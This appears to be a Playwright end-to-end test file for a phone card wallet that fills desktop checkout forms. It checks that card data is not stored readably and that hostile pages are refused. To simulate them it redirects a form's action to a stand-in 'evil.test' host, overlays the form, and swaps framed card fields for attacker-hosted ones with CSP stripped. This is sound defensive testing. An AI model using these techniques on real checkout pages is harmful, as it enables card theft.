import { expect, test } from './fixtures/test.ts';
import { ChromiumCheckout, openPayPage, payByCard } from './fixtures/card-checkout.ts';
import { pair } from './fixtures/desktop.ts';
import { kept } from './fixtures/kept.ts';
import { sandboxCard, Wallet } from '../pages/wallet.ts';

/** A card that is kept on the phone pays a card form on the desktop. */

test('a card is added, and pays a plain form, one in frames and one of React’s, by one touch each; another finger pays nothing', async ({ phone, desktop }) => {
  test.setTimeout(180_000);
  await phone.signUp();
  await pair(desktop, phone);
  const wallet = new Wallet(phone.app);
  await wallet.begin(sandboxCard);
  const shop = await desktop.shop();
  const checkout = new ChromiumCheckout(desktop, shop);

  for (const form of ['plain', 'framed', 'react'] as const) await test.step(form, () => payByCard(phone, checkout, form));

  await test.step('neither side keeps the card where it could be read', async () => {
    const [onDesktop, onPhone] = [await desktop.worker.evaluate(kept), await phone.app.page.evaluate(kept)];
    expect(onDesktop).toContain('requests: ');
    expect(onPhone).toContain('cards: ');
    for (const part of ['4242424242424242', 'Anna Berg', '737']) {
      expect(onDesktop).not.toContain(`"${part}"`);
      expect(onPhone).not.toContain(`"${part}"`);
    }
    for (const all of [onDesktop, onPhone]) expect(all).not.toContain('4242424242424242');
  });

  await test.step('what a hostile page brings about is refused, with the reason on both sides', async () => {
    const { page } = shop;
    const refused = async (phoneSays: string, desktopSays: string): Promise<void> => {
      await wallet.pay('737');
      await expect(phone.app.page.getByText(phoneSays)).toBeVisible();
      await checkout.says(desktopSays);
      expect(await checkout.held()).toEqual(['', '', '', '']);
      await phone.app.press('Back to the payment');
      await phone.app.decline();
      await expect(phone.app.outcome).toBeVisible();
    };
    const begin = async (form: 'plain' | 'framed'): Promise<void> => {
      await phone.app.page.goto(new URL('/', phone.app.page.url()).href);
      await openPayPage(phone, checkout, form);
    };

    await begin('plain');
    await page.evaluate(() => document.querySelector<HTMLFormElement>('form[action="/checkout/card"]')?.setAttribute('action', 'https://evil.test/take'));
    await refused('The form changed after you began', 'The card form changed after you asked.');

    await begin('plain');
    await page.evaluate(() => {
      const cover = document.body.appendChild(document.createElement('p'));
      cover.textContent = 'Win a prize';
      Object.assign(cover.style, { position: 'fixed', inset: '0', zIndex: '9', margin: '0', background: 'white' });
    });
    await refused('The card form cannot be seen on the page', 'The card form is not visible');

    await page.route('**/checkout/card?form=framed', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replaceAll(/src="[^"]*\/fields\//g, 'src="https://evil.test/');
      const { 'content-security-policy': _, ...headers } = response.headers();
      await route.fulfill({ status: 200, headers, body });
    });
    await page.route('https://evil.test/**', (route) => {
      const [label, token] = { number: ['Card number', 'cc-number'], expiry: ['Expiry date', 'cc-exp'] }[new URL(route.request().url()).pathname.slice(1)] ?? ['Security code', 'cc-csc'];
      return route.fulfill({ contentType: 'text/html', body: `<!doctype html><input aria-label="${label}" autocomplete="${token}">` });
    });
    await begin('framed');
    await refused('The card form belongs to a provider that is not known here', 'The card form belongs to someone we do not know.');
    await page.unrouteAll();
  });

  await test.step('another finger on the sensor approves nothing, and nothing is filled in', async () => {
    await phone.app.page.goto(new URL('/', phone.app.page.url()).href);
    await openPayPage(phone, checkout, 'plain');
    await phone.verify(false);
    await wallet.pay('737');
    await expect(phone.app.problem).toHaveText('The passkey was not confirmed. Try again when you are ready.');
    expect(await checkout.held()).toEqual(['', '', '', '']);
  });
});

test('where the browser has no PRF, the passcode opens the wallet and the passkey approves', async ({ pairedPhone, pairedDesktop, shop }) => {
  test.setTimeout(120_000);
  await pairedPhone.openApp();
  const { app } = pairedPhone;
  const wallet = new Wallet(app);
  await wallet.begin(sandboxCard, '246810');
  await app.page.goto(new URL('/', app.page.url()).href);
  const checkout = new ChromiumCheckout(pairedDesktop, shop);
  const { reference } = await openPayPage(pairedPhone, checkout, 'plain');
  await wallet.pay('737');
  await wallet.givePasscode('246811');
  await expect(app.problem).toHaveText('That is not the passcode.');
  await wallet.givePasscode('246810');
  await wallet.filled();
  await checkout.order();
  await checkout.confirmed(reference);
  await expect(app.outcome).toHaveText('The shop says paid');

  await test.step('a desktop that has loaded its page anew fills nothing in, and the phone says why', async () => {
    await app.page.goto(new URL('/', app.page.url()).href);
    await openPayPage(pairedPhone, checkout, 'plain');
    await checkout.reload();
    await wallet.pay('737');
    await wallet.givePasscode('246810');
    await expect(app.page.getByText('The page was closed or reloaded on your computer')).toBeVisible();
    expect(await checkout.held()).toEqual(['', '', '', '']);
    await app.press('Back to the payment');
    await app.decline();
    // Whoever leaves before the answer may take the word with them.
    await expect(app.outcome).toBeVisible();
  });

  await test.step('a form that went away leaves the card to be seen once, in the popup', async () => {
    await app.page.goto(new URL('/', app.page.url()).href);
    await openPayPage(pairedPhone, checkout, 'plain');
    await shop.page.evaluate(() => document.querySelectorAll('main input').forEach((input) => input.remove()));
    await wallet.pay('737');
    await wallet.givePasscode('246810');
    await expect(app.page.getByText('No card form is on the page any more.')).toBeVisible();
    const popup = await pairedDesktop.popup(shop.page);
    await popup.page.getByRole('button', { name: 'Show the card once' }).click();
    await expect(popup.page.getByText('4242 4242 4242 4242')).toBeVisible();
    await expect(popup.page.getByText('737', { exact: true })).toBeVisible();
    await popup.page.reload();
    await expect(popup.status).toBeVisible();
    await expect(popup.page.getByText('4242')).toHaveCount(0);
    await expect(popup.page.getByRole('button', { name: 'Show the card once' })).toHaveCount(0);
    await popup.page.close();
    await app.press('Back to the payment');
    await app.decline();
    await expect(app.outcome).toBeVisible();
  });

  await test.step('an exported file fills an empty wallet again', async () => {
    const file = await wallet.exportFile('correct horse battery', '246810');
    await wallet.startOver();
    await wallet.begin({ number: '5555555555554444', expiry: '0330', name: 'Anna Berg' }, '135790');
    await wallet.importFile(file, 'correct horse battery');
    await wallet.open();
    await expect(app.page.getByText('•••• 4242')).toBeVisible();
  });
});
